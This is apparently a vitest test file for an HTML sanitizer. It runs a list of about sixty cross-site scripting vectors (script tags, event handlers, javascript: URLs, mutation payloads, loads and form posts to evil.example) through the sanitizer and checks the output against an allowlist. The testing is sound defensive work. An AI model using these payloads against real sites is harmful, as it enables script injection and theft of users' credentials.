import { expect, test } from 'vitest';
import { safeMarkup } from './safe-markup.ts';

// What the published lists of cross-site scripting vectors try (OWASP filter evasion and HTML5 vectors), by kind.
const attacks: readonly string[] = [
  '<script>alert(1)</script>',
  '<SCRIPT SRC=https://evil.example/x.js></SCRIPT>',
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
  '<script/x>alert(1)</script >',
  '<<script>alert(1)//<</script>',
  '<script\x00>alert(1)</script>',
  '<img src=x onerror=alert(1)>',
  '<img src="javascript:alert(1)">',
  '<IMG """><SCRIPT>alert(1)</SCRIPT>">',
  '<svg onload=alert(1)>',
  '<svg><script>alert(1)</script></svg>',
  '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
  '<svg><animate attributeName=href values=javascript:alert(1) /></svg>',
  '<math><mtext><table><mglyph><style><!--</style><img title="--><img src=1 onerror=alert(1)>">',
  '<math href="javascript:alert(1)">x</math>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<iframe src="javascript:alert(1)"></iframe>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<object data="data:text/html,<script>alert(1)</script>"></object>',
  '<embed src="data:image/svg+xml;base64,PHN2Zz4=">',
  '<a href="javascript:alert(1)">x</a>',
  '<a href="JaVaScRiPt:alert(1)">x</a>',
  '<a href="java\tscript:alert(1)">x</a>',
  '<a href="java&#10;script:alert(1)">x</a>',
  '<a href="&#106;avascript:alert(1)">x</a>',
  '<a href="&#x6A;&#x61;vascript&colon;alert(1)">x</a>',
  '<a href=" \x01javascript:alert(1)">x</a>',
  '<a href="vbscript:msgbox(1)">x</a>',
  '<a href="data:text/html;base64,PHNjcmlwdD4=">x</a>',
  '<a href="//evil.example/">x</a>',
  '<a href="https://good.example/" onclick="alert(1)">x</a>',
  '<a href="https://good.example/" style="position:fixed;inset:0">x</a>',
  '<p onmouseover=alert(1)>x</p>',
  '<p/onmouseover=alert(1)>x</p>',
  '<p style="background:url(javascript:alert(1))">x</p>',
  '<table background="javascript:alert(1)"><tr><td background="javascript:alert(1)">x</td></tr></table>',
  '<td colspan="2" onclick=alert(1)>x</td>',
  '<style>@import "https://evil.example/x.css";</style>',
  '<link rel=stylesheet href="https://evil.example/x.css">',
  '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
  '<base href="https://evil.example/">',
  '<form action="https://evil.example/"><input name=password><button formaction=javascript:alert(1)>x</button></form>',
  '<input autofocus onfocus=alert(1)>',
  '<details open ontoggle=alert(1)>x</details>',
  '<video><source onerror=alert(1)></video>',
  '<audio src=x onerror=alert(1)>',
  '<marquee onstart=alert(1)>x</marquee>',
  '<body onload=alert(1)>',
  '<div id="__proto__" class="x">x</div>',
  '<template><script>alert(1)</script></template>',
  '<xmp><img src=x onerror=alert(1)></xmp>',
  '<textarea><img src=x onerror=alert(1)></textarea>',
  '<title><img src=x onerror=alert(1)></title>',
  '<plaintext><script>alert(1)</script>',
  '<!--[if IE]><script>alert(1)</script><![endif]-->',
  '<!-- --!><img src=x onerror=alert(1)>',
  '<![CDATA[<img src=x onerror=alert(1)>]]>',
  '<?xml-stylesheet href="javascript:alert(1)"?>',
  '<a href="https://good.example/"><script>alert(1)</script>',
  '&lt;script&gt;alert(1)&lt;/script&gt;',
  '<p title="<img src=x onerror=alert(1)>">x</p>',
  "<p '><img src=x onerror=alert(1)>'>x</p>",
];

const tags = 'p br hr h3 h4 blockquote pre code b strong i em u s sub sup ul ol li table thead tbody tr th td a'.split(
  ' ',
);

/** Every tag of the text as a browser reads it: what is no tag of the list, or has another attribute than it may, is told. */
function dangersIn(html: string): readonly string[] {
  const found = [...html.matchAll(/<[^>]*>?/g)].map(([tag]) => tag);
  return found.filter((tag) => {
    const [, name = '', attributes = ''] = /^<\/?([a-z0-9]+)((?: [a-z]+="[^"<>]*")*) ?\/?>$/.exec(tag) ?? [];
    const known = [...attributes.matchAll(/ ([a-z]+)="([^"]*)"/g)];
    const isRight = known.every(([, attribute = '', value = '']) => {
      if (attribute === 'href') return name === 'a' && /^(https?:\/\/|mailto:)/.test(value);
      if (attribute === 'rel' || attribute === 'target') return name === 'a';
      return /^(col|row)span$/.test(attribute) && (name === 'td' || name === 'th');
    });
    return !tags.includes(name) || !isRight;
  });
}

test.each(attacks)('COM-1 nothing that runs, loads or frames is left of %j', (attack) => {
  const safe = safeMarkup(`before ${attack} after`);
  expect(dangersIn(safe)).toEqual([]);
  expect(safe.startsWith('before ')).toBe(true);
});

test('COM-1 the check itself finds what is dangerous', () => {
  for (const attack of ['<script>', '<p onclick="x">', '<a href="javascript:x">', '<img src="x">', '<p title="x">']) {
    expect(dangersIn(attack)).toEqual([attack]);
  }
});

test('COM-1 text, lists, tables and links stay as they were written', () => {
  const kept =
    '<h3>Credit</h3><p>A &lt; B &amp; <strong>C</strong><br />10<sup>2</sup></p><ul><li>one</li></ul>' +
    '<table><thead><tr><th colspan="2">x</th></tr></thead><tbody><tr><td>1</td><td>2</td></tr></tbody></table>';
  expect(safeMarkup(kept)).toBe(kept);
  expect(safeMarkup('<a href="https://good.example/?a=1&amp;b=2" rel="opener" target="_top">x</a>')).toBe(
    '<a href="https://good.example/?a=1&amp;b=2" rel="nofollow noopener noreferrer" target="_blank">x</a>',
  );
});

test('COM-1 what was made safe stays as it is when it is made safe again, and deep nesting has an end', () => {
  for (const attack of attacks) {
    const once = safeMarkup(attack);
    expect(safeMarkup(once)).toBe(once);
  }
  const deep = safeMarkup(`${'<blockquote>'.repeat(5000)}x${'</blockquote>'.repeat(5000)}`);
  expect(deep.split('<blockquote>').length).toBeLessThan(30);
});
